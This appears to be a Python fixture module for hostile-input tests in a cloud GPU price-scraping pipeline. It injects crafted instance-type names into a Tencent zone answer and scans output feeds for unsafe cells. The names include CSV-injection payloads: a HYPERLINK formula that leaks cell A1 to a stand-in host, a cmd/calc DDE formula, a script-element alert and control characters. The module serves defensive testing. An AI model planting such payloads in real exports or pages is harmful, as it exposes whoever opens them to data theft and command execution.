"""Hostile cells for tests/faults/test_hostile_input.py: a tencent_cn snapshot copy whose Nanjing
zone answer lists instance types named like spreadsheet formulas or full of control characters,
and an absurdly cheap A100 80GB (a possible outlier, inside the card's bounds); and the scans that
count, in the feeds, the cells a spreadsheet would evaluate or mangle."""

from __future__ import annotations

import csv
import json
import re
import shutil
import sys
from pathlib import Path

import duckdb

from spiders.layout import SNAPSHOT_DIR

# Instance types a spreadsheet would run (OWASP's CSV injection examples and their kin).
FORMULA_SKUS = ('=HYPERLINK("http://evil.test/?leak="&A1,"GT4")', "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=2+2", "\uff1d3+3")
CONTROL_SKU = "GT4\x00\x1b[2J\u202eevil\x85"          # NUL, ESC, RLO, a C1 control
OUTLIER_SKU = "GT4.A100-80G.ABSURD"                      # 1.50 CNY/h: ~20x below the market
# A script element, then 1 Mi characters (3 MiB of UTF-8): the cheapest A100 40GB in Jiangsu, so
# the report shows it, as text and cut short
LONG_SKU = "GT4.<script>alert(1)</script>" + "超长" * (1 << 19)
FORMULA_START = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
PLAIN_NEGATIVE = re.compile(r"-[0-9]+(\.[0-9]+)?")
CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
CELL_LIMIT = 1000


def _instance(sku: str, family: str, hour: float) -> dict:
    """A POSTPAID_BY_HOUR item of a DescribeZoneInstanceConfigInfos answer (the SDK's members)."""
    price = {"UnitPrice": hour, "UnitPriceDiscount": hour, "ChargeUnit": "HOUR",
             "OriginalPrice": 0.0, "DiscountPrice": 0.0, "Discount": 100.0}
    return {"Zone": "ap-nanjing-1", "InstanceType": sku, "InstanceChargeType": "POSTPAID_BY_HOUR",
            "InstanceFamily": family, "TypeName": family, "Cpu": 16, "Memory": 96, "Gpu": 1,
            "GpuCount": 1, "Status": "SELL", "Price": price, "StatusCategory": "EnoughStock"}


def build_tencent(copy: Path) -> bytes:
    """tencent_cn copied under `copy`, its Nanjing zone answer with the hostile instance types
    (GT4, an A100 40GB, at Tencent's own price; one a little cheaper whose 1 MB name starts with
    a script element; and the
    outlier: a family the card table does not know, whose own text names an A100 80GB); returns
    the body's bytes."""
    shutil.copytree(SNAPSHOT_DIR / "tencent_cn", copy / "tencent_cn")
    page = copy / "tencent_cn" / "zone_ap-nanjing-1.json"
    body = json.loads(page.read_text(encoding="utf-8"))
    quota = body["data"]["Response"]["InstanceTypeQuotaSet"]
    quota += [_instance(sku, "GT4", 26.90) for sku in (*FORMULA_SKUS, CONTROL_SKU)]
    quota.append(_instance(LONG_SKU, "GT4", 20.00))
    quota.append(_instance(OUTLIER_SKU, "A100 80GB", 1.50))
    written = json.dumps(body, ensure_ascii=False).encode("utf-8")
    page.write_bytes(written)
    return written


def formula_like(cell: str) -> bool:
    return cell.startswith(FORMULA_START) and not PLAIN_NEGATIVE.fullmatch(cell)


def unsafe_cells(cells: list[str]) -> dict[str, int]:
    """How many cells a spreadsheet would evaluate (formula-like), mangle (control or bidi
    characters) or choke on (over 1,000 characters)."""
    return {"formula": sum(map(formula_like, cells)),
            "control": sum(bool(CONTROLS.search(c)) for c in cells),
            "over_limit": sum(len(c) > CELL_LIMIT for c in cells)}


def csv_cells(feeds: Path) -> list[str]:
    """Every cell of every CSV feed (header rows left out)."""
    csv.field_size_limit(sys.maxsize)
    cells = []
    for path in sorted(feeds.rglob("*.csv")):     # a dated feed: a file a day in its folder
        with path.open(encoding="utf-8", newline="") as fh:
            cells += [cell for row in list(csv.reader(fh))[1:] for cell in row]
    return cells


def parquet_text_cells(feeds: Path) -> list[str]:
    """Every text cell of every Parquet feed: the text as stored, what the CSV would carry
    without csv_safe_cell."""
    cells = []
    with duckdb.connect() as con:
        for path in sorted(feeds.rglob("*.parquet")):
            for column, column_type, *_ in con.execute(f"describe '{path}'").fetchall():
                if column_type == "VARCHAR":
                    cells += [v for (v,) in con.execute(f'select "{column}" from \'{path}\' '
                                                        f'where "{column}" is not null').fetchall()]
    return cells
